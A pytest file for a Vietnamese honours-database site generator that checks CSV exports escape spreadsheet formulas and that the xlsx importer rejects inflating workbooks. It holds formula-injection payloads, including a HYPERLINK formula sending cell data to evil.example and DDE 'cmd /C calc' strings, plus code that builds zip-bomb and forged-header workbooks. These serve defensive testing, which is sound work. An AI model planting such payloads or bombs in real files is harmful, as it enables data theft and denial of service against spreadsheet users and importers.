"""Untrusted input (issue 16, docs/security.md): spreadsheet formulas, slow Markdown, invisible
characters and workbook bombs, each tried in several shapes, not only the one first reported."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest

from generator.csvout import csv_lines, is_inert, spreadsheet_cell
from tests.editors_project import run, write_project

TODAY = "2026-06-01"

# --- spreadsheet formulas in every CSV ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Xem")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",  # full-width "="
    "Phong trào;=HYPERLINK(2)",  # a new cell where ";" is the list separator
    "Phong trào,\t@SUM(3)",
]


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\u200b=1+1", " =1", "a\r\n=1"])
def test_every_formula_shape_is_made_inert(value: str) -> None:
    assert not is_inert(value)
    assert is_inert(spreadsheet_cell(value))
    # Read back through the csv module, the cell is the escaped text, whole.
    (row,) = csv.reader(io.StringIO(csv_lines([[value, "x"]]).decode(), newline=""))
    assert row == [spreadsheet_cell(value), "x"]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "2019-08-20", "1234/QĐ-CTN", "Hà Nội, 2020"])
def test_ordinary_cells_are_kept(value: str) -> None:
    assert spreadsheet_cell(value) == value


def _campaign(title: str, short: str, launched: str, criterion: str) -> str:
    return f"""\
---
slug: nong-thon-moi
title: '{title.replace("'", "''")}'
short_name: '{short.replace("'", "''")}'
launched_by: '{launched.replace("'", "''")}'
level: national
start: 2016-01-01
end: 2020-12-31
criteria: ['{criterion.replace("'", "''")}']
---
Phong trào thử nghiệm.
"""


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _person(family: str, given: str, position: str, unit: str, number: str) -> str:
    return f"""\
slug: nguyen-van-an
kind: individual
name: {{family: {_quoted(family)}, given: {_quoted(given)}}}
position: {_quoted(position)}
unit: {_quoted(unit)}
locality: {{province: Quảng Trị, district: Triệu Phong, commune: Triệu Thành, as_of: 2019-05-01}}
campaigns: [nong-thon-moi]
awards:
  - award: huan-chuong-lao-dong
    class: ba
    year: 2019
    decision_number: {_quoted(number)}
    decision_date: 2019-08-20
    issuer: Chủ tịch nước
    issuer_level: state
    campaign: nong-thon-moi
summary: {_quoted(FORMULAS[0])}
"""


def test_every_csv_the_build_writes_is_inert(tmp_path: Path) -> None:
    root = write_project(
        tmp_path,
        **{
            "content__campaigns__nong-thon-moi.md": _campaign(*FORMULAS[:4]),
            "profiles__nguyen-van-an.yml": _person(*FORMULAS[2:7]),
        },
    )
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    written = sorted((root / "site").rglob("*.csv"))
    names = {p.relative_to(root / "site").as_posix() for p in written}
    assert {"du-lieu/vinh-danh.csv", "du-lieu/honours.csv", "thong-ke/thong-ke.csv"} <= names
    seen = ""
    for path in written:
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert is_inert(cell), (path.name, cell)
        # Whatever separator a spreadsheet program splits on, no piece starts a formula.
        assert is_inert(text.replace('"', "")), path.name
        seen += text
    # The payloads did reach the files (escaped), so the test tested something.
    for escaped in ("'=HYPERLINK", "'-2+3+cmd", "'\uff1dHYPERLINK", ";'=HYPERLINK(2)", "'@SUM(3)"):
        assert escaped in seen, escaped


# --- workbooks that inflate -----------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _hostile_xlsx(path: Path, parts: dict[str, Iterable[bytes]]) -> Path:
    """A real workbook from openpyxl with some parts replaced by streamed (huge) XML."""
    from openpyxl import Workbook

    plain = path.with_suffix(".plain.xlsx")
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Họ và tên", "Hình thức khen thưởng", "Năm"])
    sheet.append(["Nguyễn Văn An", "Bằng khen", 2020])
    book.save(plain)
    deflated = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", deflated) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and STRINGS in parts:
                data = data.replace(b"</Types>", STRINGS_TYPE + b"</Types>")
            if info.filename not in parts:
                target.writestr(info, data)
        for name, chunks in parts.items():
            with target.open(name, "w", force_zip64=True) as out:
                for chunk in chunks:
                    out.write(chunk)
    plain.unlink()
    return path


def _sheet(rows: Iterable[bytes], dimension: str = "A1:C2") -> Iterator[bytes]:
    yield SHEET_HEAD + f'<dimension ref="{dimension}"/><sheetData>'.encode()
    yield from rows
    yield b"</sheetData></worksheet>"


def _repeat(unit: bytes, count: int, batch: int = 10_000) -> Iterator[bytes]:
    for start in range(0, count, batch):
        yield unit * min(batch, count - start)


def _styled_rows(count: int) -> Iterator[bytes]:
    for start in range(1, count + 1, 10_000):
        yield b"".join(
            f'<row r="{r}" s="1" customFormat="1"/>'.encode()
            for r in range(start, min(start + 10_000, count + 1))
        )


def _forge_declared_size(path: Path, name: str, size: int) -> None:
    """Make the zip directory claim `size` bytes for `name` (a lying header)."""
    data = bytearray(path.read_bytes())
    entry = data.find(b"PK\x01\x02")
    while entry >= 0:
        length = int.from_bytes(data[entry + 28 : entry + 30], "little")
        if data[entry + 46 : entry + 46 + length] == name.encode():
            data[entry + 24 : entry + 28] = size.to_bytes(4, "little")
            break
        entry = data.find(b"PK\x01\x02", entry + 4)
    path.write_bytes(bytes(data))


def _bomb_sheet(path: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    return _hostile_xlsx(path, {SHEET: _sheet(_repeat(row, 140 * 1024 * 1024 // len(row)))})


def _lying_sheet(path: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    _hostile_xlsx(path, {SHEET: _sheet(_repeat(row, 40 * 1024 * 1024 // len(row)))})
    _forge_declared_size(path, SHEET, 1_000)
    return path


HOSTILE_WORKBOOKS: dict[str, tuple[Callable[[Path], Path], str]] = {
    # A sheet of 140 MB of XML in a file of a few hundred KB.
    "zip bomb sheet": (_bomb_sheet, "import.xlsx_part_too_large"),
    # The directory says 1 KB; the data inflates to 40 MB: zipfile stops and the CRC fails.
    "lying size": (_lying_sheet, "import.unreadable"),
    # Six million shared strings: 108 MB that openpyxl would hold as string objects.
    "shared strings bomb": (
        lambda p: _hostile_xlsx(
            p,
            {
                STRINGS: [
                    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                    *_repeat(b"<si><t>ab</t></si>", 6_000_000),
                    b"</sst>",
                ]
            },
        ),
        "import.xlsx_part_too_large",
    ),
    # Under the byte cap, over the count.
    "many shared strings": (
        lambda p: _hostile_xlsx(
            p,
            {
                STRINGS: [
                    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                    *_repeat(b"<si/>", 1_200_000),
                    b"</sst>",
                ]
            },
        ),
        "import.too_many_strings",
    ),
    "a million empty styled rows": (
        lambda p: _hostile_xlsx(p, {SHEET: _sheet(_styled_rows(1_000_000), "A1:C1000000")}),
        "import.too_many_rows",
    ),
    "styled empty cells": (
        lambda p: _hostile_xlsx(
            p, {SHEET: _sheet(_repeat(b"<row>" + b'<c s="1"/>' * 25 + b"</row>", 85_000))}
        ),
        "import.too_many_cells",
    ),
    # One row numbered 1,048,576: openpyxl would yield every row before it.
    "row number jump": (
        lambda p: _hostile_xlsx(
            p, {SHEET: _sheet([b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'])}
        ),
        "import.too_many_rows",
    ),
    # A value at XFD1 and one 150,000 rows down: every row padded to 16,384 cells.
    "far corners": (
        lambda p: _hostile_xlsx(
            p,
            {
                SHEET: _sheet(
                    [
                        b'<row r="1"><c r="XFD1"><v>1</v></c></row>',
                        b'<row r="150000"><c r="A150000"><v>1</v></c></row>',
                    ],
                    "A1:XFD150000",
                )
            },
        ),
        "import.too_many_cells",
    ),
    "giant cell": (
        lambda p: _hostile_xlsx(
            p,
            {
                SHEET: _sheet(
                    [
                        b'<row r="1"><c r="A1" t="inlineStr"><is><t>',
                        b"x" * 40_000,
                        b"</t></is></c></row>",
                    ]
                )
            },
        ),
        "import.cell_too_long",
    ),
}

_CHILD = """\
import resource, sys
from pathlib import Path
from generator.spreadsheet import TableError, read_tables
try:
    read_tables(Path(sys.argv[1]))
    code = "read"
except TableError as exc:
    code = exc.code
print(code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.parametrize("variant", HOSTILE_WORKBOOKS)
def test_hostile_workbooks_are_refused_in_bounded_memory(tmp_path: Path, variant: str) -> None:
    make, expected = HOSTILE_WORKBOOKS[variant]
    path = make(tmp_path / "danh-sach.xlsx")
    assert path.stat().st_size < 50 * 1024 * 1024  # under the file-size cap: the zip inflates
    env = {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(Path(__file__).parents[1])}
    started = time.monotonic()
    child = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path)], capture_output=True, text=True, env=env
    )
    elapsed = time.monotonic() - started
    assert child.returncode == 0, child.stderr
    code, peak_mib = child.stdout.split()
    assert code == expected
    # Peak resident memory of the whole child (Python, openpyxl, the parse): generous ceiling.
    assert int(peak_mib) < 256, f"{variant}: {peak_mib} MiB"
    assert elapsed < 60


def test_a_refused_workbook_is_named_in_both_languages(tmp_path: Path) -> None:
    root = write_project(tmp_path / "p")
    source = HOSTILE_WORKBOOKS["row number jump"][0](tmp_path / "danh-sach.xlsx")
    code, output = run("import", str(source), "--root", str(root))
    assert code == 1
    assert "danh-sach.xlsx:1:1: " in output and "quá nhiều dòng" in output, output
    code, output = run("import", str(source), "--root", str(root), "--lang", "en")
    assert "danh-sach.xlsx:1:1: " in output and "too many rows" in output, output
